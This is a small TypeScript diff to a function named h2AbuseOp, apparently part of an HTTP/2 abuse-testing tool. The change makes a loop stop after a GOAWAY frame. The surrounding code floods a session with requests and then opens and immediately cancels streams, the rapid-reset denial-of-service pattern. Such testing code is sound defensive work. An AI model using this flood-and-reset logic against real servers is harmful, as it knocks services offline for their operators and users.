@@ -166,7 +166,11 @@ function h2AbuseOp(m: Msg): Promise<unknown> {
         });
       });
       await Promise.all(flood);
-      for (let i = 0; i < Number(m.resets ?? 0) && !session.destroyed && !session.closed; i++) {
+      for (
+        let i = 0;
+        i < Number(m.resets ?? 0) && goaway === undefined && !session.destroyed && !session.closed;
+        i++
+      ) {
         const s = session.request({ ':path': `/r${i}`, ':method': 'GET' });
         s.on('error', () => undefined);
         s.close(http2.constants.NGHTTP2_CANCEL);
